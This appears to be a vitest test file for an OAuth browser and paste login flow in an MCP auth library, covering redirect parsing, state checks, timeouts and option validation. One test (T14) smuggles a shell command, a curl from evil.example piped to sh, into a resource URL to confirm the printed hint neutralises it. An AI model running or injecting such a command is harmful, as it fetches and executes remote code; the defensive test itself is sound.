import { once } from 'node:events'
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { McpAuthError, secrets } from '@mcpauth/core'
import { describe, expect, onTestFinished, test, vi } from 'vitest'
import { type BrowserLoginOptions, browserLogin } from '../src/browser-login.ts'
import type { OpenLogin } from '../src/login.ts'
import { pasteLogin } from '../src/paste-login.ts'
import { parsePastedRedirect } from '../src/pasted-redirect.ts'

function authorizationUrl(state: string): URL {
  const url = new URL('https://as.example/authorize')
  url.searchParams.set('state', state)
  url.searchParams.set('resource', 'https://mcp.example.com/mcp')
  return url
}

async function opened(options: BrowserLoginOptions): Promise<OpenLogin> {
  const login = await browserLogin({ print: () => {}, ...options })()
  onTestFinished(() => login.close?.())
  return login
}

/** Comes back to the redirect URI as a browser does, and keeps what the tab shows. */
function browserFor(login: () => OpenLogin, rest: string): { open: (url: URL) => void; page: () => Promise<string> } {
  let page: Promise<string> | undefined
  return {
    open: (url) => {
      page = fetch(`${login().redirectUri}?${rest}&state=${url.searchParams.get('state')}`).then((response) => response.text())
    },
    page: () => page as Promise<string>
  }
}

test('the browser goes to the URL and its answer comes back; the tab tells how it ended, for which server', async () => {
  let login: OpenLogin
  const lines: string[] = []
  const browser = browserFor(() => login, 'code=abcdefgh12345678')
  login = await opened({ open: browser.open, print: (line) => lines.push(line) })
  const answer = await login.ask(authorizationUrl('s1'), 's1')
  expect(answer.get('code')).toBe('abcdefgh12345678')
  expect(secrets.redact('abcdefgh12345678')).toBe('[REDACTED:authorization code]')
  expect(lines[0]).toBe('Opening as.example in your browser …')
  login.finish?.()
  expect(await browser.page()).toContain('Your programs on this machine can now use <strong>mcp.example.com</strong>.')
})

test('where a browser was opened, the address is shown as well: what opens it may say so and show nothing', async () => {
  const lines: string[] = []
  const giveUp = new AbortController()
  const login = await opened({
    open: () => {},
    print(line) {
      lines.push(line)
      if (line.startsWith('  ')) giveUp.abort(new Error('seen'))
    }
  })
  await expect(login.ask(authorizationUrl('s1'), 's1', giveUp.signal)).rejects.toThrow('seen')
  expect(lines).toEqual([
    'Opening as.example in your browser …',
    'If no window appears, open this address:',
    `  ${authorizationUrl('s1').href}`
  ])
})

test('a problem after the callback is what the tab shows', async () => {
  let login: OpenLogin
  const browser = browserFor(() => login, 'error=access_denied')
  login = await opened({ open: browser.open })
  await login.ask(authorizationUrl('s1'), 's1')
  login.finish?.(new TypeError('an inner matter with a secret'))
  expect(await browser.page()).toMatch(/Logging in to <strong>mcp\.example\.com<\/strong> failed: the terminal says why\./)
})

test('a browser that cannot be opened is replaced by the printed URL and a prompt', async () => {
  const input = new PassThrough()
  const lines: string[] = []
  const login = await opened({
    input,
    open: () => Promise.reject(new Error('no display')),
    print(line) {
      lines.push(line)
      if (line.includes('paste')) input.write(`${login.redirectUri}?code=pasted-code&state=s1\n`)
    }
  })
  expect((await login.ask(authorizationUrl('s1'), 's1')).get('code')).toBe('pasted-code')
  expect(lines).toContain(`  ${authorizationUrl('s1').href}`)
})

test('pasteLogin takes the pasted address: other states and bare codes are refused, each with a sentence, until the right one comes', async () => {
  const input = new PassThrough()
  const lines: string[] = []
  const login = await pasteLogin({ input, print: (line) => lines.push(line) })()
  onTestFinished(() => login.close?.())
  const answer = login.ask(authorizationUrl('s1'), 's1')
  input.write('SplxlOBeZQQYbYS6WxSbIA\n\n')
  input.write(`${login.redirectUri}?code=c&state=other\n`)
  input.write(`\u001b[200~"${login.redirectUri}?code=the-right-code&state=s1&iss=https%3A%2F%2Fas.example" \u001b[201~\n`)
  expect(Object.fromEntries(await answer)).toEqual({ code: 'the-right-code', state: 's1', iss: 'https://as.example' })
  expect(lines.filter((line) => line.startsWith('Please paste the whole address'))).toHaveLength(1)
  expect(lines.filter((line) => line.startsWith('That address belongs to another login'))).toHaveLength(1)
})

test('pasteLogin races the listener: where the browser does come back, nothing needs to be pasted', async () => {
  const input = new PassThrough()
  const login = await pasteLogin({ input, print: () => {} })()
  onTestFinished(() => login.close?.())
  const answer = login.ask(authorizationUrl('s1'), 's1')
  void fetch(`${login.redirectUri}?code=came-back&state=s1`).catch(() => {})
  expect((await answer).get('code')).toBe('came-back')
  // The prompt is gone: the input is left to whoever reads it next.
  expect(input.listenerCount('data')).toBe(0)
})

test('when the input ends nothing can be pasted any more, but the browser may still come back', async () => {
  const input = new PassThrough()
  const login = await pasteLogin({ input, print: () => {} })()
  onTestFinished(() => login.close?.())
  const answer = login.ask(authorizationUrl('s1'), 's1')
  const ended = once(input, 'end')
  input.end()
  await ended
  void fetch(`${login.redirectUri}?code=came-back&state=s1`).catch(() => {})
  expect((await answer).get('code')).toBe('came-back')
})

test('N32: what is pasted must be the redirect of this login', () => {
  const uri = 'http://127.0.0.1:4711/callback'
  expect(parsePastedRedirect(`${uri}?code=c&state=s`, uri, 's')).toBeInstanceOf(URLSearchParams)
  expect(parsePastedRedirect(`${uri}?error=access_denied&state=s`, uri, 's')).toBeInstanceOf(URLSearchParams)
  for (const line of [
    'http://127.0.0.1:4712/callback?code=c&state=s',
    'http://127.0.0.1:4711/other?code=c&state=s',
    'https://evil.example/callback?code=c&state=s',
    `${uri}?code=c`,
    `${uri}?code=c&state=S`,
    `${uri}?code=c&state=s&state=s`,
    `${uri}?code=c&code=d&state=s`,
    `${uri}?state=s`,
    `${uri}#code=c&state=s`,
    'http://',
    'the-code'
  ]) {
    expect(parsePastedRedirect(line, uri, 's'), line).toEqual(expect.stringMatching(/^(That|Please)/))
  }
})

test('nobody coming back ends with the sentence that names the host and suspects the registration', async () => {
  const login = await opened({ open: () => {}, timeoutMs: 1_000 })
  const error = await login.ask(authorizationUrl('s1'), 's1').catch((caught: unknown) => caught)
  expect(error).toMatchObject({ code: 'MCPAUTH_LOGIN_FAILED', message: 'nobody came back from as.example within 1 s' })
  expect((error as { hint: string }).hint).toContain('npx @mcpauth/cli login --new-registration https://mcp.example.com/mcp')
})

test('T14: into the command that it names goes no resource that a shell would run', async () => {
  const login = await opened({ open: () => {}, timeoutMs: 1_000 })
  const url = authorizationUrl('s1')
  url.searchParams.set('resource', 'https://mcp.example.com/mcp?x ;curl evil.example|sh')
  const error = await login.ask(url, 's1').catch((caught: unknown) => caught)
  expect((error as { hint: string }).hint).toMatch(/login --new-registration https:\/\/mcp\.example\.com\/mcp\?…$/)
})

test('a caller that gives up ends the login at once', async () => {
  const login = await opened({ open: () => {} })
  const giveUp = new AbortController()
  const answer = login.ask(authorizationUrl('s1'), 's1', giveUp.signal)
  giveUp.abort(new Error('enough'))
  await expect(answer).rejects.toThrow('enough')
})

test('N35: an authorization URL that is not one to open is refused before anything is shown', async () => {
  const seen: unknown[] = []
  const login = await opened({ open: (url) => void seen.push(url), print: (line) => seen.push(line) })
  await expect(login.ask(new URL('http://as.example/authorize'), 's')).rejects.toThrow(
    expect.objectContaining({ code: 'MCPAUTH_ADDRESS_REFUSED' })
  )
  expect(seen).toEqual([])
})

test.each([
  ['port', { port: 70_000 }],
  ['port', { port: 1.5 }],
  ['host', { host: '0.0.0.0' }],
  ['path', { path: 'callback' }],
  ['path', { path: '/a b' }],
  ['path', { path: '/a/../b' }],
  ['path', { path: '/./callback' }],
  ['timeoutMs', { timeoutMs: 0 }],
  ['timeoutMs', { timeoutMs: Number.NaN }],
  ['open', { open: 'firefox' }]
])('a bad option throws at construction and is named: %s', (name, options) => {
  expect(() => browserLogin(options as BrowserLoginOptions)).toThrow(
    expect.objectContaining({ code: 'MCPAUTH_INVALID_OPTION', message: expect.stringContaining(`option ${name}:`) })
  )
})

/** A time that goes on when the test says so. */
function stoppedTimers(): void {
  vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
  onTestFinished(() => void vi.useRealTimers())
}

const settled = (): Promise<void> => new Promise((settle) => void setImmediate(settle))

/** What is printed where nobody says where to. */
function standardError(): { text(): string } {
  const write = vi.spyOn(process.stderr, 'write').mockReturnValue(true)
  onTestFinished(() => write.mockRestore())
  return { text: () => write.mock.calls.map(([text]) => text).join('') }
}

/** Replaces standard input. */
function standardInput(input: PassThrough): PassThrough {
  const stdin = vi.spyOn(process, 'stdin', 'get').mockReturnValue(input as never)
  onTestFinished(() => stdin.mockRestore())
  return input
}

test('without options the system’s browser is opened, for a redirect to any port, and the lines are on standard error', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'mcpauth-opener-'))
  const seen = join(folder, 'seen')
  const program = join(folder, 'browser')
  writeFileSync(program, `#!${process.execPath}\nrequire('node:fs').writeFileSync(${JSON.stringify(seen)}, process.argv[2])\n`)
  chmodSync(program, 0o755)
  vi.stubEnv('BROWSER', program)
  const printed = standardError()
  onTestFinished(() => {
    vi.unstubAllEnvs()
    rmSync(folder, { recursive: true })
  })
  const login = await browserLogin()()
  onTestFinished(() => login.close?.())
  expect(login.redirectUri).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/callback$/)
  const { href } = authorizationUrl('s1')
  const giveUp = new AbortController()
  const answer = login.ask(authorizationUrl('s1'), 's1', giveUp.signal)
  void answer.catch(() => {})
  while (!printed.text().includes(href)) await settled()
  expect(readFileSync(seen, 'utf8')).toBe(href)
  expect(printed.text()).toBe(`Opening as.example in your browser …\nIf no window appears, open this address:\n  ${href}\n`)
  giveUp.abort(new Error('enough'))
  await expect(answer).rejects.toThrow('enough')
})

test.each<[BrowserLoginOptions, RegExp]>([
  [{ host: '127.0.0.1' }, /^http:\/\/127\.0\.0\.1:\d+\/callback$/],
  [{ host: '[::1]', path: '/' }, /^http:\/\/\[::1\]:\d+\/$/],
  [{ host: 'localhost', path: '/a-b/c.d/~e_f' }, /^http:\/\/localhost:\d+\/a-b\/c\.d\/~e_f$/]
])('the redirect URI is the one that the client is registered with: %j', async (options, expected) => {
  expect((await opened({ open: false, ...options })).redirectUri).toMatch(expected)
})

test('a fixed port is the one of the redirect URI', async () => {
  const free = await opened({ open: false })
  const port = Number(new URL(free.redirectUri).port)
  free.close?.()
  expect((await opened({ open: false, port })).redirectUri).toBe(free.redirectUri)
})

describe('a person', () => {
  test.each([
    [{}, 300_000, '300 s'],
    [{ timeoutMs: 1_600 }, 1_600, '2 s']
  ])('has the time that the options say: %j', async (options, ms, said) => {
    stoppedTimers()
    const login = await opened({ open: () => {}, ...options })
    let ended: unknown
    const answer = login.ask(authorizationUrl('s1'), 's1').catch((error: unknown) => {
      ended = error
    })
    vi.advanceTimersByTime(ms - 1)
    await settled()
    expect(ended).toBeUndefined()
    vi.advanceTimersByTime(1)
    await answer
    expect(ended).toMatchObject({ code: 'MCPAUTH_LOGIN_FAILED', message: `nobody came back from as.example within ${said}` })
  })

  test('is timed until the answer, and no longer', async () => {
    stoppedTimers()
    let login: OpenLogin
    const browser = browserFor(() => login, 'code=abcdefgh12345678')
    login = await opened({ open: browser.open })
    const answer = login.ask(authorizationUrl('s1'), 's1')
    expect(vi.getTimerCount()).toBe(1)
    await answer
    login.close?.()
    expect(vi.getTimerCount()).toBe(0)
    await browser.page()
  })

  test('who has no time left is told which command to run, where it is not known for which server', async () => {
    stoppedTimers()
    const login = await opened({ open: () => {} })
    const answer = login.ask(new URL('https://as.example/authorize'), 's1').catch((error: unknown) => error)
    vi.advanceTimersByTime(300_000)
    expect(await answer).toMatchObject({ hint: expect.stringMatching(/ --new-registration <url>$/) })
  })

  test('who gives up while a browser is being opened is shown nothing more', async () => {
    const opening = Promise.withResolvers<void>()
    const lines: string[] = []
    const login = await opened({ open: () => opening.promise, print: (line) => lines.push(line) })
    const giveUp = new AbortController()
    const answer = login.ask(authorizationUrl('s1'), 's1', giveUp.signal)
    giveUp.abort(new Error('enough'))
    await expect(answer).rejects.toThrow('enough')
    opening.resolve()
    await settled()
    expect(lines).toEqual(['Opening as.example in your browser …'])
  })
})

describe('where no browser is opened', () => {
  const paste = expect.stringMatching(/^If that browser is on another machine/)
  const { href } = authorizationUrl('s1')

  /** The lines until nothing more comes, and then the caller gives up. */
  async function shown(options: BrowserLoginOptions, url = authorizationUrl('s1')): Promise<string[]> {
    const lines: string[] = []
    const login = await opened({ open: false, print: (line) => lines.push(line), ...options })
    const giveUp = new AbortController()
    const answer = login.ask(url, 's1', giveUp.signal)
    void answer.catch(() => {})
    await import('../src/pasted-redirect.ts')
    for (let turn = 0; turn < 20; turn += 1) await settled()
    giveUp.abort(new Error('enough'))
    await expect(answer).rejects.toThrow('enough')
    return lines
  }

  test('the address is shown, and the server that is logged in to', async () => {
    standardInput(new PassThrough())
    expect(await shown({})).toEqual(['Open this address in a browser to log in to mcp.example.com:', `  ${href}`])
  })

  test.each(['', '?resource=nonsense'])('no server is named where none is known: %j', async (query) => {
    const url = `https://as.example/authorize${query}`
    expect(await shown({ input: new PassThrough() }, new URL(url))).toEqual([
      'Open this address in a browser to log in:',
      `  ${url}`,
      paste
    ])
  })

  test('a pasted address is read from the terminal there is, and from another input only where the user says so', async () => {
    const terminal = standardInput(Object.assign(new PassThrough(), { isTTY: true }))
    const echo = standardError()
    expect(await shown({})).toEqual([expect.any(String), `  ${href}`, paste])
    expect(echo.text()).toBe('')
    expect(terminal.listenerCount('keypress')).toBe(0)
    standardInput(new PassThrough())
    expect(await shown({ input: new PassThrough() })).toEqual([expect.any(String), `  ${href}`, paste])
    // Over SSH or in a container standard input may be a pipe: whoever calls this means it.
    const lines: string[] = []
    const piped = standardInput(new PassThrough())
    const login = await pasteLogin({ print: (line) => lines.push(line) })()
    onTestFinished(() => login.close?.())
    piped.write(`${login.redirectUri}?code=from-a-pipe&state=s1\n`)
    expect((await login.ask(authorizationUrl('s1'), 's1')).get('code')).toBe('from-a-pipe')
    expect(lines[0]).toMatch(/^Open this address/)
  })

  test('nobody is asked to paste when the login is over already', async () => {
    const giveUp = new AbortController()
    const lines: string[] = []
    const input = new PassThrough()
    const login = await opened({
      open: false,
      input,
      print(line) {
        lines.push(line)
        giveUp.abort(new Error('enough'))
      }
    })
    await expect(login.ask(authorizationUrl('s1'), 's1', giveUp.signal)).rejects.toThrow('enough')
    for (let turn = 0; turn < 20; turn += 1) await settled()
    expect(lines).toEqual([expect.stringMatching(/^Open this address/), `  ${href}`])
    expect(input.listenerCount('data')).toBe(0)
  })
})

test.each<[unknown, string[]]>([
  [undefined, ['You are logged in']],
  [new Error('an inner matter'), ['The login did not work', 'the terminal says why.', 'Your terminal says what to do next.']],
  [new McpAuthError('MCPAUTH_LOGIN_FAILED', 'it was refused', { hint: 'ask the operator' }), ['it was refused', 'ask the operator']],
  [new McpAuthError('MCPAUTH_LOGIN_FAILED', 'it was refused'), ['it was refused', 'Your terminal says what to do next.']]
])('the tab says how it ended, also where no server is known: %s', async (problem, expected) => {
  let login: OpenLogin
  const browser = browserFor(() => login, 'code=abcdefgh12345678')
  login = await opened({ open: browser.open })
  const url = new URL('https://as.example/authorize?state=s1')
  await login.ask(url, 's1')
  login.finish?.(problem)
  const page = await browser.page()
  for (const text of expected) expect(page).toContain(text)
  expect(page).not.toMatch(/an inner matter|undefined|<strong>/)
})

test.each([
  ['port', -1, false],
  ['port', 0, true],
  ['port', 65_535, true],
  ['port', 65_536, false],
  ['port', '80', false],
  ['timeoutMs', 999, false],
  ['timeoutMs', 1_000, true],
  ['timeoutMs', 3_600_000, true],
  ['timeoutMs', 3_600_001, false],
  ['timeoutMs', '5000', false],
  ['open', true, true],
  ['open', false, true],
  ['open', () => {}, true],
  ['open', null, false],
  ['host', '127.0.0.1', true],
  ['host', '[::1]', true],
  ['host', 'localhost', true],
  ['host', '::1', false],
  ['path', '/', true],
  ['path', '/A-z_0.9~/x', true],
  ['path', 'a', false],
  ['path', 'x/callback', false],
  ['path', '/a?b', false],
  ['path', '/a#b', false],
  ['path', '/a:b', false],
  ['path', '/a:b/c', false],
  ['path', '/%41', false],
  ['path', '/é', false],
  ['path', '/a/..', false],
  ['path', { toString: () => '/callback' }, false]
])('the option %s may be %j: %s', (name, value, fine) => {
  const make = (): unknown => browserLogin({ [name]: value } as BrowserLoginOptions)
  if (fine) expect(make()).toBeTypeOf('function')
  else
    expect(make).toThrow(expect.objectContaining({ code: 'MCPAUTH_INVALID_OPTION', message: expect.stringContaining(`option ${name}:`) }))
})
